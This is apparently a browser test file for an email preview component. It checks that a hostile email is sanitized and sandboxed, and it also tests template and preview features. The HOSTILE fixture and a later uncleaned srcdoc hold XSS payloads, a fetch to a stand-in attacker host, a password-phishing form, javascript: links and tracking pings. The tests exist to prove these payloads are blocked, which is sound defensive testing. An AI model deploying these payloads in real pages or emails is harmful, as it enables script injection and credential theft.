import { expect, it, onTestFinished } from 'vitest';
import { commands, page } from 'vitest/browser';
import { EmailFrame } from '#web/entities/email/email-frame.tsx';
import type { Answers } from '../support/components/api.ts';
import { asset, assetDetail, automation, template, templateDetail } from '../support/components/examples.ts';
import { button, field, isGone, keys, press, says, shows, tab } from '../support/components/page.ts';
import { open, render } from '../support/components/render.tsx';
import { proof } from '../support/proof.ts';

/** An email that tries everything. None of it may happen. */
const HOSTILE = `<!doctype html>
<html lang="en" onload="parent.hacked=1"><head>
<base href="https://evil.example.com/">
<meta http-equiv="refresh" content="0;url=https://evil.example.com/refresh">
<link rel="stylesheet" href="https://evil.example.com/link.css">
<link rel="preload" as="image" href="https://evil.example.com/preload.png">
<style>@import url(https://evil.example.com/import.css);
@font-face{font-family:evil;src:url(https://evil.example.com/font.woff2)}
p{font-family:evil;background:url(https://evil.example.com/style.png)}</style>
<script>parent.hacked=1;fetch('https://evil.example.com/script')</script>
<script src="https://evil.example.com/script.js"></script>
</head><body onload="parent.hacked=1" background="https://evil.example.com/body.png">
<p id="shown" onclick="parent.hacked=1">A harmless sentence.</p>
<img id="https" src="https://images.example.com/picture.png" alt="picture" onerror="parent.hacked=1">
<img src="http://evil.example.com/insecure.png" alt="insecure">
<img src="x" srcset="http://evil.example.com/set.png 2x" alt="set">
<svg onload="parent.hacked=1"><script>parent.hacked=1</script><image href="http://evil.example.com/svg.png"/></svg>
<math><mtext><style><img src=x onerror="parent.hacked=1"></style></mtext></math>
<form action="https://evil.example.com/form"><input name="password"><button>Sign in again</button></form>
<iframe src="https://evil.example.com/frame"></iframe>
<object data="https://evil.example.com/object"></object><embed src="https://evil.example.com/embed">
<video src="https://evil.example.com/video" poster="http://evil.example.com/poster.png" autoplay></video>
<a id="script" href="javascript:parent.hacked=1">runs a script</a>
<a id="top" href="https://evil.example.com/top" target="_top">replaces the app</a>
<a href="https://evil.example.com/ping" ping="https://evil.example.com/pinged">pings</a>
</body></html>`;

const TITLE = 'A hostile email';
const inFrame = (expression: string) => commands.inFrame(TITLE, expression);
const frame = () => page.frameLocator(page.getByTitle(TITLE));
const here = location.href;

/** Shows it, and finds afterwards that it has done nothing to the page. */
async function showHostile() {
  await commands.watchRequests();
  render(<EmailFrame html={HOSTILE} width="600px" scheme="light" title={TITLE} />);
  await expect.poll(() => inFrame('root.innerText')).toContain('A harmless sentence.');
  onTestFinished(() => {
    expect('hacked' in window).toBe(false);
    expect(location.href).toBe(here);
  });
}

it('a hostile email runs nothing, loads nothing and leads nowhere', async () => {
  await showHostile();
  // It tries: the last thing that the browser refuses has been refused.
  const refused = async (name: string) => (await commands.requests()).refused.some(url => url.endsWith(name));
  await expect.poll(() => refused('picture.png')).toBe(true);
  await expect.poll(() => refused('font.woff2')).toBe(true);
  const forbidden =
    'script, svg, math, form, input, button, iframe, object, embed, video, link, meta[http-equiv=refresh], base[href]';
  expect(await inFrame(`[...root.querySelectorAll('${forbidden}')].map(({ tagName }) => tagName)`)).toEqual(
    [],
  );
  const attributes = await inFrame(
    `[root, ...root.querySelectorAll('*')].flatMap(element => element.getAttributeNames())`,
  );
  expect((attributes as string[]).filter(name => /^on|^ping$/.test(name))).toEqual([]);
  await frame().getByText('A harmless sentence.').click();
  await frame().getByText('runs a script').click();
  expect(await inFrame(`root.querySelector('#script').getAttribute('href')`)).toBeNull();
  expect(await commands.requests()).toMatchObject({ left: [], tabs: [] });
});

it('the links of an email open in a new tab, which knows nothing of the app', async () => {
  await showHostile();
  await frame().getByText('replaces the app').click();
  const tab = 'https://evil.example.com/top';
  await expect.poll(async () => (await commands.requests()).tabs).toEqual([tab]);
  expect(await commands.closeTab(tab)).toEqual([null, '']);
  expect((await commands.requests()).left).toEqual([tab]);
});

it('the sandbox and the policy of an email hold even without its own cleaning', async () => {
  await showHostile();
  const element = page.getByTitle(TITLE).element() as HTMLIFrameElement;
  const head = element.srcdoc.match(/^.*?base-uri 'none'">/s)?.[0] ?? '';
  expect(head).toMatch(/^<!doctype html><html[^>]*><head><meta http-equiv="Content-Security-Policy"/);
  element.srcdoc = `${head}<script>parent.hacked=1</script>
    <img src="http://evil.example.com/a.png" onerror="parent.hacked=1">
    <form action="https://evil.example.com/form"><button>Send</button></form>
    <meta http-equiv="refresh" content="0;url=https://evil.example.com/refresh">
    <iframe src="https://evil.example.com/frame"></iframe><p>uncleaned</p>`;
  await expect.poll(() => inFrame('root.innerText')).toContain('uncleaned');
  await frame().getByRole('button', { name: 'Send' }).click();
  expect(await commands.requests()).toMatchObject({ left: [], tabs: [] });
});

it('the images of an email are loaded when the reader wants them, only those by https', async () => {
  await showHostile();
  expect((await commands.requests()).left).toEqual([]);
  await press('Load images');
  const left = async () => (await commands.requests()).left;
  await expect.poll(left).toContain('https://images.example.com/picture.png');
  await expect.poll(() => inFrame('root.innerText')).toContain('A harmless sentence.');
  const paths = (await left()).map(url => new URL(url).pathname);
  for (const never of ['/import.css', '/font.woff2', '/script.js', '/frame', '/video', '/link.css']) {
    expect(paths).not.toContain(never);
  }
  expect((await left()).filter(url => url.startsWith('http:'))).toEqual([]);
  await isGone(button('Load images'));
});

const emailSays = (text: string) =>
  expect.poll(() => commands.inFrame('Email preview', 'root.innerText')).toContain(text);
const panel = (name: string) => page.getByRole('tabpanel', { name });

it('a template is shown as the email that it becomes, and as it was written in another tab', async () => {
  open('/email-templates/t1', { 'GET /api/email-templates/{emailTemplate}': templateDetail });
  await emailSays(template.cta_text);
  expect(page.getByText(template.footer).elements()).toEqual([]);
  await tab('Content').click();
  await shows(panel('Content').getByText(template.footer));
});

it('an asset is shown within an email, and as it was written in another tab', async () => {
  const value = 'Hello **{{first_name}}**';
  const emailAsset = { ...asset, type: 'pre_cta_content' as const, value };
  open('/email-assets/e1', { 'GET /api/email-assets/{emailAsset}': { ...assetDetail, emailAsset } });
  await emailSays('Hello Ada');
  await emailSays('The button');
  await tab('Asset Content').click();
  await shows(panel('Asset Content').getByText(value));
});

const preview = (plaintext: string) => ({
  html: '<p>Hello Ada</p>',
  plaintext,
  sender: { name: 'The shop', email: 'hello@example.com', list_name: 'Customers' },
  seed: 'a',
});

const openPreview = async (answers: Answers = {}) => {
  const automations = [{ id: automation.id, name: automation.name }];
  const opened = open('/email-assets/e1', {
    'GET /api/email-assets/{emailAsset}': { ...assetDetail, automations },
    'GET /api/automations/{automation}/preview': preview('Hello Ada'),
    ...answers,
  });
  await press('Generate Email Preview for welcome');
  return opened;
};

proof('a preview and a test email are for a member found by address', async () => {
  const ann = { id: 'l1-ann', email: 'ann@example.com', list_name: 'Customers' };
  const { api } = await openPreview({
    'GET /api/automations/{automation}/preview': ({ query }) =>
      preview(query.get('member') === ann.id ? 'Hello Ann' : 'Hello Ada'),
    'GET /api/automations/{automation}/preview-members': ({ query }) =>
      ann.email.startsWith(query.get('search') ?? '') ? [ann] : [],
    'POST /api/automations/{automation}/test-email': { sent_to: 'me@example.com' },
  });
  await says('Hello Ada');
  await field('Preview as').fill('bob');
  await says('No address on its lists begins with “bob”.');
  await field('Preview as').fill('an');
  await says('1 member found.');
  await keys('{Enter}');
  await says(/^As ann@example\.com on Customers$/);
  await says('Hello Ann');
  await press('Send test email to me');
  await expect.poll(() => api.changes().at(-1)?.body).toMatchObject({ member: ann.id });
  await press('As anybody');
  await says('Hello Ada');
});

it('a preview says how a phone lists the email, where its links lead, and how large it is', async () => {
  const html = '<p><a href="https://example.com/a?x=1">The shop</a> <a>Broken</a></p>';
  const subject = 'A subject that no phone shows to its end, since it says all that there is to say';
  await openPreview({
    'GET /api/automations/{automation}/preview': { ...preview(`${subject}\n\nThe snippet`), html },
  });
  const inbox = page.getByRole('dialog').getByRole('group', { name: 'In an inbox' });
  await expect.element(inbox).toHaveTextContent(`The shop <hello@example.com>${subject}The snippet`);
  expect(inbox.element().getBoundingClientRect().width).toBeLessThanOrEqual(390);
  expect(inbox.element().getBoundingClientRect().height).toBeLessThan(100);
  await shows(page.getByRole('dialog').getByText('Size: 0.2 KB'));
  await page.getByRole('dialog').getByRole('tab', { name: 'Links' }).click();
  const links = () =>
    [...document.querySelectorAll('[role=dialog] ul[aria-label=Links] li')].map(li => li.textContent);
  await expect
    .poll(links)
    .toEqual([
      'The shophttps://example.com/a?x=1',
      'BrokenLeads nowhere: without a value, or with an address that is not safe.',
    ]);
});
